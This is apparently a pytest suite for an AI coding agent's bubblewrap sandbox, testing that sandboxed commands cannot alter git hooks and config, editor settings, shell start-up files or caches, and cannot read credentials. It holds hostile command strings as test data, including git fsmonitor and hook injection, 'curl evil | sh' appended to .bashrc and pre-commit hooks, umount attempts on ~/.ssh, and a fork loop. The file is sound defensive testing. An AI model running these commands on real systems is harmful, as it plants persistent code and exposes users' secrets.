"""The sandbox's fence on real processes (issue 19): what runs outside later cannot be
changed from inside (git's config and hooks, the agent's own install, the user's caches and
start-up files), secrets stay hidden even inside a root, agent sockets are out of reach,
and a fork bomb or a disk fill ends inside the sandbox."""

from __future__ import annotations

import asyncio
import gc
import hashlib
import os
import shutil
import site
import socket
import subprocess
import sys
import threading
import weakref
from collections.abc import Callable, Iterator
from concurrent.futures import Future
from pathlib import Path

import pytest

from hermes_core.sandbox.bwrap import Sandbox
from hermes_core.sandbox.secrets import is_secret_path
from hermes_core.workspace import LocalWorkspace, WorkspaceScope
from tests.support.homes import user_home
from tests.support.processes import alive, pids_running, unique_seconds
from tests.support.waiting import until

GIT_ID = "-c user.name=t -c user.email=t@example.com"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = user_home(tmp_path)
    (home / ".cache").mkdir()
    return home


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The user's repository, made outside the sandbox, with one commit."""
    path = tmp_path / "repo"
    path.mkdir()
    (path / "app.py").write_text("print('v1')\n")
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    subprocess.run(
        f"git {GIT_ID} -C {path} add -A && git {GIT_ID} -C {path} commit -qm first", shell=True, check=True
    )
    return path


def sandboxed(root: Path, home: Path, **options: object) -> tuple[LocalWorkspace, Sandbox]:
    scope = WorkspaceScope(root)
    agent_home = home.parent / "agent-home"
    state = agent_home / "sandbox" / "caches"
    sandbox = Sandbox(scope, home=home, hidden=(agent_home,), state=state, **options)  # type: ignore[arg-type]
    return LocalWorkspace(scope, sandbox=sandbox), sandbox


async def run(ws: LocalWorkspace, command: str, home: Path, **env: str) -> tuple[int | None, str]:
    full_env = {
        "HOME": str(home),
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        **env,
    }
    command_run = await ws.start_command(command, env=full_env)
    try:
        status = await command_run.wait()
        output, _ = await command_run.output()
    finally:
        await command_run.release()
    return status.exit_code, output


async def collected(gone: weakref.ref[Sandbox]) -> None:
    """Wait until the ended session's sandbox is collected: a released command's pipe
    transport still holds the command (and its sandbox) until the loop has run the
    transport's close, an iteration later."""
    for _ in range(1000):
        gc.collect()
        if gone() is None:
            return
        await asyncio.sleep(0)  # one loop iteration: the pending close callbacks run
    raise AssertionError("the sandbox is still referenced after its session ended")


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under `folder` with a hash of its content (and every link's target)."""
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            out[str(path)] = "-> " + os.readlink(path)
        elif path.is_file():
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[str(path)] = "dir"
    return out


# -- protected paths inside a writable root -----------------------------------------------------


def git_code(repo: Path) -> dict[str, str]:
    """What git reads as configuration or runs as code, and which repository `.git` is."""
    state = {"HEAD": (repo / ".git" / "HEAD").read_text()}
    for name in ("config", "hooks", "info"):
        state.update(snapshot(repo / ".git" / name) if (repo / ".git" / name).is_dir() else {})
    state["config"] = (repo / ".git" / "config").read_text()
    return state


async def test_gits_config_hooks_and_info_cannot_be_changed_from_the_sandbox(repo: Path, home: Path) -> None:
    before = git_code(repo)
    ws, sandbox = sandboxed(repo, home)
    attacks = [
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout",
        "echo '* filter=evil' >> .git/info/attributes",
        "mv .git .git-old",  # swap in a planted repository
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/new && mv -f .git/new .git/config",
    ]
    for attack in attacks:
        code, out = await run(ws, attack, home)
        assert code != 0, (attack, out)
        assert "Read-only file system" in out or "busy" in out, (attack, out)
    assert git_code(repo) == before
    _, out = await run(ws, "echo x >> .git/config", home)
    assert "protected path" in (sandbox.explain_refusal(out) or ""), out


async def test_a_command_has_no_capability_to_undo_the_mounts(repo: Path, home: Path) -> None:
    # As root (a container, CI) bwrap kept every capability: with CAP_SYS_ADMIN a command
    # unmounted the tmpfs hiding ~/.ssh and remounted .git/config writable.
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-42\n")
    before = git_code(repo)
    ws, _ = sandboxed(repo, home)
    attack = (
        f"umount {home / '.ssh'}; cat {home / '.ssh' / 'id_ed25519'}; "
        f"mount -o remount,bind,rw {repo / '.git' / 'config'}; "
        f"mount -o remount,rw {repo / '.git' / 'config'}; "
        "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config; grep CapEff /proc/self/status; "
        # the same value written back: as root this needed no capability, only the file's mode
        "cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness && echo SYSCTL-WRITTEN"
    )
    _, out = await run(ws, attack, home)
    assert "PRIVATE-KEY-42" not in out, out
    assert git_code(repo) == before, out
    effective = int(out.split("CapEff:")[1].split()[0], 16)
    file_caps = 1 << 0 | 1 << 1 | 1 << 3  # CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_FOWNER (root only)
    assert effective & ~file_caps == 0, out
    assert "SYSCTL-WRITTEN" not in out, out


async def test_a_root_agent_still_writes_in_a_workspace_another_user_owns(tmp_path: Path, home: Path) -> None:
    # A dev container's agent runs as root on source bind-mounted from the host user.
    project = tmp_path / "project"
    (project / "src").mkdir(parents=True)
    (project / "src" / "app.py").write_text("v1\n")
    owner = 4242 if os.geteuid() == 0 else os.geteuid()
    for path in (project, project / "src", project / "src" / "app.py"):
        os.chown(path, owner, owner)
        path.chmod(0o644 if path.is_file() else 0o755)
    ws, _ = sandboxed(project, home)
    code, out = await run(ws, "echo v2 > src/app.py && mkdir build && touch build/out && rm -r build", home)
    assert code == 0, out
    assert (project / "src" / "app.py").read_text() == "v2\n"


async def test_hooks_and_config_the_repositorys_config_points_to_are_read_only_too(
    repo: Path, home: Path
) -> None:
    # husky's layout: core.hooksPath in the work tree; and a project config file included.
    (repo / ".husky").mkdir()
    (repo / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    (repo / "team.gitconfig").write_text("[user]\n\tname = team\n")
    with (repo / ".git" / "config").open("a") as config:
        config.write("[core]\n\thooksPath = .husky\n[include]\n\tpath = ../team.gitconfig\n")
        config.write('[includeIf "onbranch:main"]\n\tpath = ../missing.gitconfig\n')
    ws, _ = sandboxed(repo, home)
    for attack in (
        "echo 'curl evil | sh' >> .husky/pre-commit",
        "echo x > .husky/post-checkout",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> team.gitconfig",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > missing.gitconfig",
    ):
        code, out = await run(ws, attack, home)
        # (a missing include is an empty read-only stand-in, which refuses with EACCES)
        assert code != 0 and ("Read-only file system" in out or "Permission denied" in out), (attack, out)
    assert (repo / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
    assert sorted(p.name for p in (repo / ".husky").iterdir()) == ["pre-commit"]
    assert (repo / "team.gitconfig").read_text() == "[user]\n\tname = team\n"
    assert not (repo / "missing.gitconfig").exists()  # the empty mount point went with the command


async def test_linked_worktree_and_submodule_state_cannot_be_planted_by_any_command(
    repo: Path, home: Path
) -> None:
    # `git init` makes neither `.git/worktrees` nor `.git/modules`: both are empty read-only
    # mount points, left in place between the session's commands (and gone with it).
    assert not (repo / ".git" / "worktrees").exists() and not (repo / ".git" / "modules").exists()
    ws, sandbox = sandboxed(repo, home)
    for attempt in range(2):  # the second command finds the first one's empty folders
        for name in ("worktrees", "modules"):
            config = f".git/{name}/evil/config"
            plant = f"mkdir -p .git/{name}/evil && echo '[core] fsmonitor = touch /tmp/pwned' > {config}"
            code, out = await run(ws, plant, home)
            assert code != 0 and "Read-only file system" in out, (attempt, name, out)
            assert list((repo / ".git" / name).iterdir()) == [], (attempt, name)
    del ws, sandbox  # the session ends (its last command's pipe callbacks may still hold it)

    def gone() -> bool:
        gc.collect()
        return not (repo / ".git" / "worktrees").exists() and not (repo / ".git" / "modules").exists()

    await until(gone, "the session's empty mount points to be removed with it")


async def test_a_planted_commondir_is_moved_aside_when_the_command_ends(repo: Path, home: Path) -> None:
    # git reads config from the folder `commondir` names; a main .git never has one.
    ws, _ = sandboxed(repo, home)
    plant = (
        "git init -q --bare innocent "
        f"&& git config -f innocent/config core.fsmonitor 'touch {repo.parent}/pwned' "
        f"&& echo {repo / 'innocent'} > .git/commondir && echo planted"
    )
    code, out = await run(ws, plant, home)
    assert code == 0 and out.endswith("planted\n"), out  # .git stays writable for git's own work
    assert not (repo / ".git" / "commondir").exists()
    git = await asyncio.to_thread(
        subprocess.run, ["git", "-C", str(repo), "status", "--short"], capture_output=True, text=True
    )
    assert git.returncode == 0 and not (repo.parent / "pwned").exists()


async def test_everyday_git_work_still_works_in_the_sandbox(repo: Path, home: Path) -> None:
    ws, _ = sandboxed(repo, home)
    script = (
        f"git status --short && git checkout -q -b feature && echo v2 > app.py && git diff --stat "
        f"&& git add app.py && git {GIT_ID} commit -qm second && echo wip > app.py && git stash -q "
        f"&& git stash pop -q && git {GIT_ID} commit -qam third && git checkout -q - "
        f"&& git branch --list && git log --oneline | wc -l"
    )
    code, out = await run(ws, script, home)
    assert code == 0, out
    assert out.rstrip().endswith("1") and "feature" in out, out  # back on the first branch
    code, out = await run(ws, "git log --all --oneline | wc -l", home)
    assert out.strip() == "3", out


async def test_git_init_where_no_repository_exists_is_refused_and_leaves_nothing(
    tmp_path: Path, home: Path
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    ws, sandbox = sandboxed(folder, home)
    code, out = await run(ws, "git init -q && git config core.fsmonitor 'touch /tmp/pwned'", home)
    assert code != 0 and "Read-only file system" in out, out
    assert "protected path" in (sandbox.explain_refusal(out) or "")
    assert not (folder / ".git" / "config").exists()
    assert not (folder / ".git").exists()  # the empty mount point went with the command


# -- the editor's project settings ----------------------------------------------------------------


@pytest.mark.parametrize("existing", [False, True], ids=["missing", "existing"])
async def test_the_editors_project_settings_cannot_be_written_from_the_sandbox(
    tmp_path: Path, home: Path, existing: bool
) -> None:
    # Zed starts `.zed/settings.json`'s context_servers, VS Code the tasks `.vscode/` names,
    # outside any sandbox once the folder is trusted, and trust survives a change of the file.
    folder = tmp_path / "project"
    folder.mkdir()
    before: dict[str, str] = {}
    if existing:
        for name in (".zed", ".vscode", ".claude"):
            (folder / name).mkdir()
            (folder / name / "settings.json").write_text("{}\n")
        before = snapshot(folder)
    ws, sandbox = sandboxed(folder, home)
    for name in (".zed", ".vscode", ".claude"):  # Claude Code runs `.claude/settings.json`'s hooks
        attack = (
            f"mkdir -p {name} && "
            f'echo \'{{"context_servers": {{"x": {{"command": "sh"}}}}}}\' > {name}/settings.json'
        )
        code, out = await run(ws, attack, home)
        assert code != 0 and "Read-only file system" in out, (name, out)
        assert "editor's project settings" in (sandbox.explain_refusal(out) or ""), out
    code, out = await run(ws, "echo ok > notes.txt && cat notes.txt", home)
    assert (code, out.strip()) == (0, "ok")  # the rest of the root stays writable
    (folder / "notes.txt").unlink()
    if existing:
        assert snapshot(folder) == before
    else:  # empty mount points until the session ends, then nothing
        assert snapshot(folder) == {str(folder / name): "dir" for name in (".vscode", ".zed", ".claude")}
        gone = weakref.ref(sandbox)
        del ws, sandbox  # the session ends
        await collected(gone)
        assert snapshot(folder) == {}


# -- the agent's own code -------------------------------------------------------------------------


async def test_the_agents_own_install_is_read_only_even_inside_the_workspace(home: Path) -> None:
    # The README's install: a .venv inside the repository, which is a writable root.
    install = Path(sys.prefix).resolve()
    packages = Path(site.getsitepackages()[0]).resolve()
    ws, _ = sandboxed(install.parent, home)
    planted = [packages / "zz_hermes_fence_test.pth", install / "bin" / "zz-hermes-fence-test"]
    try:
        for path in planted:
            code, out = await run(ws, f"echo 'import os' > {path}", home)
            assert code != 0 and "Read-only file system" in out, out
            assert not path.exists()
    finally:
        for path in planted:
            path.unlink(missing_ok=True)


# -- caches -------------------------------------------------------------------------------------


async def test_caches_are_private_to_the_sandbox_and_the_users_stay_unchanged(
    tmp_path: Path, home: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    code_in_caches = [
        home / ".cargo/registry/src/index/dep-1.0/build.rs",
        home / ".gradle/wrapper/dists/gradle-8/bin/gradle",
        home / ".cache/pre-commit/repo1/hook.py",
        home / "go/pkg/mod/example.com/m@v1/m.go",
        home / ".cache/uv/archive-v0/abc/lib/python3.11/site-packages/tool.py",
        home / ".npm/_cacache/index",
    ]
    for path in code_in_caches:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("original\n")
    before = snapshot(home)
    ws, _ = sandboxed(project, home)
    rewrite = "".join(f"echo planted > {p}\n" for p in code_in_caches)
    plant_pth = f"echo 'import os' > {home}/.cache/uv/archive-v0/abc/lib/python3.11/site-packages/evil.pth"
    # A script of the workspace's (it may run any build tool): every cache is writable.
    (project / "warm.sh").write_text(f"set -e\n{rewrite}{plant_pth}\n")
    code, out = await run(ws, "sh warm.sh", home)
    assert code == 0, out  # the build tools' writes succeed ...
    code, out = await run(ws, f"cat {code_in_caches[0]}", home)
    assert out == "planted\n"  # ... and stay for the sandbox's next command
    assert snapshot(home) == before  # the user's own caches: byte for byte


async def test_a_secret_the_sandboxs_layer_hides_does_not_break_a_utilitys_launch(
    tmp_path: Path, home: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "build.sh").write_text("rm -rf ~/.cache/huggingface && mkdir ~/.cache/huggingface\n")
    (home / ".cache" / "huggingface").mkdir()
    ws, _ = sandboxed(project, home)
    code, out = await run(ws, "sh build.sh", home)  # the folder made anew in the sandbox's layer
    assert code == 0, out
    (home / ".cache" / "huggingface" / "token").write_text("hf-secret\n")  # the user logs in
    code, out = await run(ws, "echo started && ls ~/.cache; cat ~/.cache/huggingface/token", home)
    assert out.startswith("started\nhuggingface"), out  # it starts (bwrap made its mount point)
    assert "hf-secret" not in out, out  # and the secret stays hidden


PYPROJECT = """[build-system]
requires = []
build-backend = "tiny_backend"
backend-path = ["."]

[project]
name = "localpkg"
version = "1.0"
"""
# A PEP 517 backend in the package itself, so pip builds it offline with nothing installed.
TINY_BACKEND = """import zipfile

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "localpkg-1.0-py3-none-any.whl"
    info = "localpkg-1.0.dist-info/"
    with zipfile.ZipFile(wheel_directory + "/" + name, "w") as wheel:
        wheel.write("localpkg/__init__.py", "localpkg/__init__.py")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: localpkg\\nVersion: 1.0\\n")
        tags = "Root-Is-Purelib: true\\nTag: py3-none-any\\n"
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\n" + tags)
        wheel.writestr(info + "RECORD", "")
    return name
"""


async def test_pip_installs_a_local_package_and_keeps_its_cache_private(tmp_path: Path, home: Path) -> None:
    project = tmp_path / "project"
    (project / "pkg" / "localpkg").mkdir(parents=True)
    (project / "pkg" / "localpkg" / "__init__.py").write_text("ANSWER = 42\n")
    (project / "pkg" / "pyproject.toml").write_text(PYPROJECT)
    (project / "pkg" / "tiny_backend.py").write_text(TINY_BACKEND)
    (home / ".cache" / "pip").mkdir()
    before = snapshot(home / ".cache")
    ws, _ = sandboxed(project, home)
    python = Path(sys.base_prefix) / "bin" / "python3"
    command = (
        f"{python} -m venv .venv && .venv/bin/pip install -q --no-index --no-build-isolation ./pkg "
        "&& .venv/bin/python -c 'import localpkg; print(localpkg.ANSWER)' && ls ~/.cache/pip"
    )
    code, out = await run(ws, command, home)
    assert code == 0 and "42" in out, out
    assert snapshot(home / ".cache") == before  # whatever pip cached went to the sandbox's layer


async def test_npm_installs_a_local_file_dependency(tmp_path: Path, home: Path) -> None:
    project = tmp_path / "project"
    (project / "dep").mkdir(parents=True)
    (project / "dep" / "package.json").write_text('{"name": "dep", "version": "1.0.0", "main": "index.js"}')
    (project / "dep" / "index.js").write_text("module.exports = 7;\n")
    (project / "package.json").write_text(
        '{"name": "app", "version": "1.0.0", "dependencies": {"dep": "file:dep"}}'
    )
    (home / ".npm").mkdir()
    before = snapshot(home / ".npm")
    ws, _ = sandboxed(project, home)
    code, out = await run(
        ws, "npm install --no-audit --no-fund && node -e 'console.log(require(\"dep\"))'", home
    )
    assert code == 0 and out.rstrip().endswith("7"), out
    assert snapshot(home / ".npm") == before


async def test_cargo_builds_a_crate_offline(tmp_path: Path, home: Path) -> None:
    cargo = shutil.which("cargo")
    assert cargo is not None, "cargo is part of this machine's toolchain"
    rustup_home = os.environ.get("RUSTUP_HOME") or str(Path.home() / ".rustup")
    project = tmp_path / "crate"
    (project / "src").mkdir(parents=True)
    (project / "Cargo.toml").write_text('[package]\nname = "tiny"\nversion = "0.1.0"\nedition = "2021"\n')
    (project / "src" / "main.rs").write_text('fn main() { println!("built {}", 6 * 7); }\n')
    (home / ".cargo" / "registry").mkdir(parents=True)
    ws, _ = sandboxed(project, home)
    code, out = await run(
        ws, f"{cargo} run -q --offline", home, RUSTUP_HOME=rustup_home, CARGO_HOME=str(home / ".cargo")
    )
    assert code == 0 and "built 42" in out, out


# -- secrets --------------------------------------------------------------------------------------

HOME_SECRETS = {
    ".netrc": "machine x password netrc-secret",
    ".git-credentials": "https://u:gitcred-secret@example.com",
    ".config/git/credentials": "https://u:xdgcred-secret@example.com",
    ".pgpass": "*:*:*:*:pgpass-secret",
    ".pypirc": "password = pypirc-secret",
    ".npmrc": "//registry/:_authToken=npmrc-secret",
    ".cargo/credentials.toml": "token = cargo-secret",
    ".cache/huggingface/token": "hf-secret",
    ".config/github-copilot/hosts.json": "copilot-secret",
    ".vault-token": "vault-secret",
    ".m2/settings.xml": "<password>m2-secret</password>",
    ".docker/config.json": "docker-secret",
    ".config/gh/hosts.yml": "gh-secret",
    ".kube/config": "kube-secret",
    ".terraform.d/credentials.tfrc.json": "terraform-secret",
    ".config/rclone/rclone.conf": "rclone-secret",
    ".password-store/x.gpg": "pass-secret",
    ".bash_history": "export TOKEN=history-secret",
    ".zsh_history": "zsh-secret",
    ".python_history": "python-history-secret",
    ".ssh/id_ed25519": "ssh-secret",
    ".aws/credentials": "aws-secret",
    ".gnupg/private.key": "gnupg-secret",
    ".env": "HOME_ENV=home-env-secret",
    "project/.envrc": "export A=envrc-secret",
    "project/.env-local": "B=env-local-secret",
    "project/.env_prod": "C=env-prod-secret",
    "project/.env.production": "D=env-dot-secret",
    "project/apps/web/.env": "E=nested-env-secret",
}


async def test_secrets_stay_hidden_when_the_workspace_is_the_home_folder(home: Path) -> None:
    for relative, content in HOME_SECRETS.items():
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(content + "\n")
    (home / "project" / ".env.example").write_text("EXAMPLE=documented\n")
    (home / ".bashrc").write_text("# the user's\n")
    (home / ".profile").write_text("# the user's\n")
    (home / ".cargo" / "bin").mkdir(parents=True)
    (home / ".cargo" / "bin" / "cargo").write_text("#!/bin/sh\n")
    ws, sandbox = sandboxed(home, home)
    assert sandbox.notice is not None and "home folder" in sandbox.notice
    files = " ".join(f"~/{relative}" for relative in HOME_SECRETS)
    _, out = await run(ws, f"cat {files} 2>&1; grep -r secret ~ 2>&1; cat ~/project/.env.example", home)
    leaked = [content for content in HOME_SECRETS.values() if content.split("=")[-1].split()[-1] in out]
    assert leaked == [], out
    assert "EXAMPLE=documented" in out  # a template holds no values
    for target in ("~/.bashrc", "~/.profile", "~/.cargo/bin/cargo"):
        code, out = await run(ws, f"echo 'curl evil | sh' >> {target}", home)
        assert code != 0 and "Read-only file system" in out, (target, out)
    assert (home / ".bashrc").read_text() == "# the user's\n"


def test_one_secret_list_answers_for_the_file_tools_too(home: Path) -> None:
    secret = [
        "~/.netrc",
        "~/.ssh/id_rsa",
        "~/.config/gh/hosts.yml",
        "~/.cache/huggingface/token",
        "~/.zsh_history",
        "~/work/app/.env",
        "~/work/app/.envrc",
        "~/work/app/.env_prod",
        "~/work/app/.env.local",
        "/srv/project/.env-staging",
    ]
    ordinary = [
        "~/work/app/.env/lib/python3.11/site.py",  # a venv named .env
        "~/.bashrc",
        "~/work/app/main.py",
        "~/work/app/.env.example",
        "~/work/app/environment.py",
        "~/.cache/pip/x",
    ]

    def check(raw: str) -> bool:
        return is_secret_path(Path(raw.replace("~", str(home))), home=home)

    assert [p for p in secret if not check(p)] == []
    assert [p for p in ordinary if check(p)] == []
    # the sandbox's own answer adds the agent's home (config, keys, sessions)
    (home / "work").mkdir()
    _, sandbox = sandboxed(home / "work", home)
    agent_home = home.parent / "agent-home"
    assert sandbox.is_secret(agent_home / "config.toml") and not sandbox.is_secret(home / "work" / "app.py")


async def test_another_sessions_tmpdir_is_invisible(tmp_path: Path, home: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    first, first_box = sandboxed(project, home)
    second, _ = sandboxed(project, home)
    code, out = await run(first, 'echo session-one-secret > "$TMPDIR/note" && cat "$TMPDIR/note"', home)
    assert code == 0 and out == "session-one-secret\n"
    _, out = await run(second, f"cat {first_box.temp_dir}/note 2>&1; ls -A {first_box.temp_dir}", home)
    assert "session-one-secret" not in out


@pytest.fixture
def agent_socket(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A listening unix socket named as the ssh agent's, and a runtime dir with a bus socket."""
    runtime = tmp_path / "run-user"
    runtime.mkdir(mode=0o700)
    path = tmp_path / "agent.sock"
    listeners = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    listeners[0].bind(str(path))
    listeners[1].bind(str(runtime / "bus"))
    for listener in listeners:
        listener.listen(8)
    monkeypatch.setenv("SSH_AUTH_SOCK", str(path))
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={runtime}/bus")
    yield path
    for listener in listeners:
        listener.close()


CONNECT = (
    "import os, socket, sys\n"
    "for path in sys.argv[1:]:\n"
    "    s = socket.socket(socket.AF_UNIX)\n"
    "    try:\n"
    "        s.connect(path); print('reached', path)\n"
    "    except OSError as exc:\n"
    "        print('refused', path, exc)\n"
    "print('env', os.environ.get('SSH_AUTH_SOCK'), os.environ.get('DBUS_SESSION_BUS_ADDRESS'))\n"
)


async def test_agent_sockets_are_unreachable_unless_the_ssh_agent_is_allowed(
    tmp_path: Path, home: Path, agent_socket: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "connect.py").write_text(CONNECT)
    bus = Path(os.environ["XDG_RUNTIME_DIR"]) / "bus"
    ws, _ = sandboxed(project, home)
    code, out = await run(ws, f"{sys.executable} connect.py {agent_socket} {bus}", home, **dict(os.environ))
    assert code == 0 and "reached" not in out and "env None None" in out, out
    allowed, _ = sandboxed(project, home, ssh_agent=True)
    code, out = await run(
        allowed, f"{sys.executable} connect.py {agent_socket} {bus}", home, **dict(os.environ)
    )
    assert f"reached {agent_socket}" in out and f"refused {bus}" in out, out


# -- limits ---------------------------------------------------------------------------------------

FORK_LOOP = (
    "import os, time\n"
    "made = 0\n"
    "try:\n"
    "    for _ in range(400):\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(60)\n"
    "            os._exit(0)\n"
    "        made += 1\n"
    "    print('unlimited', made)\n"
    "except OSError as exc:\n"
    "    print('limited after', made, exc.strerror)\n"
)


async def test_a_fork_loop_hits_the_process_limit_and_fails_cleanly(tmp_path: Path, home: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "forks.py").write_text(FORK_LOOP)
    ws, _ = sandboxed(project, home, max_processes=64)
    code, out = await run(ws, f"{sys.executable} forks.py", home)
    assert code == 0 and out.startswith("limited after") and "unlimited" not in out, out
    made = int(out.split()[2])
    assert 0 < made < 64
    code, out = await run(ws, "echo still fine", home)  # the next command runs as before
    assert code == 0 and out == "still fine\n"


async def test_filling_tmpdir_stops_at_its_cap(tmp_path: Path, home: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    ws, _ = sandboxed(project, home, tmp_mb=8)
    code, out = await run(ws, 'dd if=/dev/zero of="$TMPDIR/fill" bs=1M count=64 2>&1', home)
    assert code != 0 and "No space left on device" in out, out


async def test_a_command_cancelled_while_it_starts_is_killed_not_left_running(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sandboxed command starts on its session's launch thread. A turn cancelled while
    that thread is starting it must not leave the command running once it has started:
    nobody would own it, and neither a cancel nor the end of the session would reach it."""
    project = tmp_path / "project"
    project.mkdir()
    ws, sandbox = sandboxed(project, home)
    thread = sandbox.launch_thread()
    submit = thread.submit
    starting_now, go_on = threading.Event(), threading.Event()
    started: list[Future[object]] = []

    def held(job: Callable[[], object]) -> object:
        starting_now.set()
        go_on.wait()
        return job()

    def watched(job: Callable[[], object]) -> Future[object]:
        started.append(submit(lambda: held(job)))
        return started[-1]

    monkeypatch.setattr(thread, "submit", watched)
    seconds = unique_seconds(60)
    turn = asyncio.create_task(run(ws, f"sleep {seconds}", home))
    await until(starting_now.is_set, "the launch thread to be starting the command")
    turn.cancel()
    with pytest.raises(asyncio.CancelledError):
        await turn
    go_on.set()  # the start goes through, with its turn gone
    process = await asyncio.wrap_future(started[0])
    assert isinstance(process, subprocess.Popen)
    assert not alive(process.pid), "the command started after its cancel and was left running"
    await until(lambda: not pids_running("sleep", seconds), "the sandboxed sleep to end")
